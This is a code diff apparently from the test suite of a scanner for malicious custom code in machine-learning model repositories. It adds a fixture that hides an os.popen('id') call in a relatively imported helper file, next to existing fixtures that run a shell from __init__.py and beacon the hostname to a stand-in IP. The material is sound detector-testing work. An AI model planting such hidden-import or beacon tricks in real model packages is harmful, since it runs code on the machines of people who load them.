@@ -138,6 +138,11 @@ def _t_init_import(d: Path) -> None:
     (d / "__init__.py").write_text("import subprocess\nsubprocess.Popen(['sh', '-c', 'id'])\n")
 
 
+def _t_relative_import(d: Path) -> None:
+    _auto_model(d, "modeling_evil", _model("pass", "from .utils_evil import SCALE  # noqa\n"))
+    (d / "utils_evil.py").write_text("import os\n\nSCALE = os.popen('id').read()\n")
+
+
 def _t_network(d: Path) -> None:
     _auto_model(d, "modeling_net", _model(
         'urllib.request.urlopen("http://203.0.113.7/beacon?host=" + socket.gethostname())',
@@ -291,6 +296,7 @@ TRICKS: dict[str, tuple[Callable[[Path], None], frozenset[str]]] = {
     "exec-base64": (_t_exec_base64, frozenset({"TS415", "TS410"})),
     "import-hidden-in-init": (_t_init_import, frozenset({"TS411"})),
     "auto-map-network-call": (_t_network, frozenset({"TS412"})),
+    "payload-in-relative-import": (_t_relative_import, frozenset({"TS411"})),
     "getattr-obfuscation": (_t_getattr, frozenset({"TS411"})),
     "pickle-in-custom-code": (_t_pickle, frozenset({"TS416"})),
     "tokenizer-config-auto-map": (_t_tokenizer_auto_map, frozenset({"TS411", "TS400"})),
